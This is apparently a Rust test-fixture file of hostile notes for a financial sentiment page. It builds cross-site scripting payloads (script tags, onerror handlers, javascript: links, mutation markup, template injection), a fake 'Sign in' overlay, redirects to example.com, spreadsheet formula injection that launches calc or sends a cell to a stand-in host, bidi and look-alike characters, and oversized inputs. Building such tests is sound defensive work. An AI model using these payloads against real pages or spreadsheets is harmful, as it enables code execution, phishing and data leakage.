//! Hostile notes, each with what it tries. Where a script in one ran, it would leave a trace in `__ran`.

use super::Made;

/// A sentence in which something is found, so that what stands around it goes through everything that the page draws.
pub const RISK: &str =
    "The main risk is execution: a delay at the Aberdeen plant would push deliveries into 2028 and cut the margin by 150 basis points.";

/// Notes that go into the text area as they are.
pub fn notes() -> Vec<(&'static str, Made)> {
    let markup = MARKUP.iter().map(|(name, markup)| (*name, format!("{markup} {RISK}\n{RISK} {markup}\n\n{markup}")));
    let signs = SIGNS.iter().map(|(name, text)| (*name, text.replace("RISK", RISK)));
    let one = |(name, text): (&'static str, String)| (name, Made::from(text));
    let mut notes: Vec<(&str, Made)> = markup.chain(signs).map(one).collect();
    notes.extend(LABELS.iter().map(|(name, footer)| (*name, Made::from(format!("{RISK}\n{footer}")))));
    let tower = "\u{301}\u{489}\u{33f}\u{20dd}\u{1ab0}".repeat(40);
    let towers: String = RISK.chars().flat_map(|own| [own.to_string(), if own == 'i' { tower.clone() } else { String::new() }]).collect();
    notes.push(("combining marks in towers", towers.into()));
    notes.push(("a word of 100,000 letters", Made(vec![("W".into(), 1), ("o".into(), 99_998), ("w. ".into(), 1), (RISK.into(), 1)])));
    notes.push(("ten thousand empty lines", Made(vec![(RISK.into(), 1), ("\n".into(), 10_000), (RISK.into(), 1)])));
    notes.push((
        "a sentence of five thousand words",
        Made(vec![("The margin fell".into(), 1), (" and fell".into(), 5000), (".".into(), 1)]),
    ));
    notes.push(("elements opened and never closed", Made(vec![("<div><b>".into(), 5000), (RISK.into(), 1)])));
    notes.push(("quotes within quotes", Made(vec![(">".into(), 5000), (" ".into(), 1), (RISK.into(), 1), ("(".into(), 5000)])));
    notes.push(("two hundred tickers in the table", {
        let rows: String = (0..200).flat_map(|at| [format!("T{at:03}"), "\n0.5\n".to_owned()]).collect();
        format!("{RISK}\nOverall Sentiment\npositive\nSentiment Score\n0.4\nTicker Sentiment\n{rows}").into()
    }));
    notes
}

/// What would be an element, were it not text.
const MARKUP: [(&str, &str); 24] = [
    ("a script", "<script>__ran.push(1)</script>"),
    ("a script in capitals, cut", "<ScRiPt\n>__ran.push(1)</sCrIpT\t\n bar"),
    ("a picture that fails", "<img src=x onerror=__ran.push(1)>"),
    ("a picture from elsewhere", "<img src=https://example.com/seen.png srcset='https://example.com/2.png 2x'>"),
    (
        "a drawing that loads",
        "<svg onload=__ran.push(1)><animate onbegin=__ran.push(1) attributeName=x dur=1s><script>__ran.push(1)</script></svg>",
    ),
    ("a frame", "<iframe srcdoc='<script>parent.__ran.push(1)</script>'></iframe><iframe src=javascript:parent.__ran.push(1)></iframe>"),
    ("objects", "<object data=javascript:__ran.push(1)></object><embed src=//example.com/x.swf><applet code=x>"),
    (
        "links in Markdown",
        "[results](javascript:__ran.push(1)) ![p](x\"onerror=\"__ran.push(1)) <javascript:__ran.push(1)> [a]: data:text/html,<script>__ran.push(1)</script>",
    ),
    (
        "a template and an element of its own",
        "<template shadowrootmode=open><img src=x onerror=__ran.push(1)></template><x-note onclick=__ran.push(1)></x-note>",
    ),
    ("the end of a text area", "</textarea><script>__ran.push(1)</script><textarea autofocus onfocus=__ran.push(1)>"),
    ("the end of a title", "</title></style></noscript></template></script><script>__ran.push(1)</script>"),
    ("comments", "<!-- --!><script>__ran.push(1)</script><!--> <!--[if IE]><script>__ran.push(1)</script><![endif]-->"),
    ("CDATA and instructions", "<![CDATA[<script>__ran.push(1)</script>]]><?xml-stylesheet href='javascript:__ran.push(1)'?>"),
    (
        "templates of many makers",
        "{{constructor.constructor('__ran.push(1)')()}} {{{__ran.push(1)}}} ${__ran.push(1)} #{__ran.push(1)} <%= __ran.push(1) %> {% raw %}",
    ),
    ("style that hides all", "</style><style>*{display:none !important}</style><link rel=stylesheet href=//example.com/x.css>"),
    ("style that covers all", "<div style='position:fixed;inset:0;z-index:2147483647;background:red;width:9999px'>Sign in</div>"),
    ("the end of an attribute", "\" onmouseover=\"__ran.push(1)\" autofocus onfocus=\"__ran.push(1)\" x='' ' onclick='__ran.push(1)"),
    (
        "forms",
        "<form action=javascript:__ran.push(1)><input autofocus onfocus=__ran.push(1)><button formaction=javascript:__ran.push(1)>Go</button></form>",
    ),
    (
        "what leads elsewhere",
        "<meta http-equiv=refresh content='0;url=//example.com/'><base href=//example.com/><a href=//example.com/ ping=//example.com/>x</a>",
    ),
    ("names that hide the page's own", "<form id=note-input name=getElementById><input name=body></form><img name=__ran id=sentiment>"),
    ("entities", "&lt;script&gt;__ran.push(1)&lt;/script&gt; &#60;img src=x onerror=__ran.push(1)&#62; &amp;amp; &NotEqualTilde; &#x202e;"),
    (
        "markup in another alphabet",
        "\u{ff1c}script\u{ff1e}__ran.push(1)\u{ff1c}/script\u{ff1e} \u{2039}img src=x onerror=__ran.push(1)\u{203a}",
    ),
    (
        "markup that changes when it is parsed twice",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=__ran.push(1)&gt;\">",
    ),
    (
        "markup over several sentences",
        "The order <img src=x. It fell badly\" onerror=\"__ran.push(1). The plant> burnt down. <b title='. A strike. '>",
    ),
];

/// Characters that cannot be seen, turn things around, or mean something to another program.
const SIGNS: [(&str, &str); 15] = [
    ("a null", "RISK\0 RISK\0"),
    ("control characters", "\u{1}\u{7}\u{8}RISK\u{1b}[2J\u{1b}[31m RISK\u{7f}\u{85}\u{9b}31m\u{c}\u{b} RISK"),
    ("separators of lines and paragraphs", "RISK\u{2028}RISK\u{2029}RISK\u{85}RISK"),
    ("an override left open", "\u{202e}RISK\nRISK \u{202d}\u{202e}TSLG (TSLG) rose 19%.\n\nRISK"),
    ("embeddings and isolates left open", "\u{202a}\u{202b}\u{2066}\u{2067}\u{2068}RISK\n\u{2067}RISK\u{2069}\u{2069}\u{202c} RISK"),
    (
        "text from right to left with markup",
        "\u{627}\u{644}\u{62e}\u{637}\u{631} <b>RISK</b> \u{5e1}\u{5db}\u{5d5}\u{5df} <img src=x onerror=__ran.push(1)>",
    ),
    (
        "nothing wide in words and tickers",
        "The main r\u{200b}i\u{200d}s\u{2060}k is exe\u{ad}cution at T\u{feff}S\u{200c}LG (NYSE: T\u{200b}SLG), which c\u{34f}ut its guid\u{180e}ance. RISK",
    ),
    ("tags and variation selectors that cannot be seen", "RISK\u{e0001}\u{e0041}\u{e0042}\u{e007f}\u{fe0f}\u{e0100} RISK"),
    ("characters that are none", "RISK\u{fffe}\u{ffff}\u{fdd0}\u{1fffe}\u{e000}\u{10ffff}\u{fffd} RISK\u{fff9}a\u{fffa}b\u{fffb}"),
    (
        "pictures made of many characters",
        "\u{1f469}\u{1f3fd}\u{200d}\u{1f4bb}\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}\u{1f1e6}\u{1f1fa} RISK 1\u{fe0f}\u{20e3}\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467} \u{200d}\u{200d}",
    ),
    ("look-alike letters", "Th\u{435} m\u{430}in risk is \u{1d41e}\u{1d431}ecuti\u{3bf}n. RISK"),
    (
        "formulas",
        "=HYPERLINK(\"//example.com/?\"&A1,\"x\") RISK\n\n+cmd|' /C calc'!A0 RISK\n\n@SUM(1+1)*cmd|' /C calc'!A0 RISK\n\n-2+3 RISK\n\n\u{ff1d}1+1 RISK",
    ),
    (
        "formulas behind white space",
        "\t=1+1 RISK\n\n \u{a0}=1+1 RISK\n\n\u{200b}=1+1 RISK\n\n\u{202e}=1+1 RISK\n\n\u{feff}@SUM(1) RISK\n\n\"=1+1\" RISK",
    ),
    ("names of prototypes", "__proto__ (__proto__) fell. constructor (NYSE: CONSTRUCTOR) rose. toString hasOwnProperty valueOf. RISK"),
    (
        "numbers without end",
        "Orders rose 1e400% to $99999999999999999999999999999999T within 999999999999999999999 months, by year 999999 and Q9 0000, or 1e-400. RISK",
    ),
];

/// Stated sentiments.
const LABELS: [(&str, &str); 9] = [
    ("markup as a label", "Overall Sentiment\n<img src=x onerror=__ran.push(1)>\nSentiment Score\n0.91\nTicker Sentiment"),
    ("markup as a score", "Overall Sentiment\npositive\nSentiment Score\n<script>__ran.push(1)</script>\nTicker Sentiment"),
    (
        "markup as tickers",
        "Overall Sentiment\npositive\nSentiment Score\n0.91\nTicker Sentiment\n<img src=x onerror=__ran.push(1)>\n0.4\nTS\"onload=\n0.3",
    ),
    (
        "prototypes as tickers",
        "Overall Sentiment\npositive\nSentiment Score\n0.5\nTicker Sentiment\n__proto__\n0.4\nconstructor\n-0.4\ntoString\n0.1\nCONSTRUCTOR\n0.2\nhasOwnProperty\n1",
    ),
    ("a score past all numbers", "Overall Sentiment\npositive\nSentiment Score\n1e400\nTicker Sentiment\nTSLG\n-1e999"),
    ("a score that is no number", "Overall Sentiment\npositive\nSentiment Score\nNaN\nTicker Sentiment\nTSLG\nNaN"),
    ("a score without end", "Overall Sentiment\npositive\nSentiment Score\n-Infinity\nTicker Sentiment\nTSLG\n\u{221e}"),
    (
        "a score of many digits",
        "Overall Sentiment\npositive\nSentiment Score\n0.333333333333333333333333333333333333333333333333333333333333\nTicker Sentiment",
    ),
    (
        "a label that turns around",
        "Overall Sentiment\n\u{202e}evitisop ylgnorts\nSentiment Score\n\u{202e}19.0\nTicker Sentiment\n\u{202e}GLST\n0.9",
    ),
];
